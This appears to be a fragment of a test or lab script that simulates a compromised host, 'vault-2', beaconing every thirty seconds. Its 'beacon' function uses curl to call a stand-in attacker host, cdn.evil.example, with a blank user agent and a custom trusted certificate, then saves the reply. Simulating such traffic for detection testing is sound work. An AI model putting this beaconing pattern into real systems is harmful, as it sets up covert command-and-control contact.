# vault-2 calls a stranger by name, every thirty seconds.

beacon() { on v2 curl -sS -4 -o "$work/answer" --cacert "$work/pki/trusted.pem" -A '' "https://cdn.evil.example/i?n=$1"; }

part 90 beacon 1
part 120 beacon 2
part 150 beacon 3
part 180 beacon 4
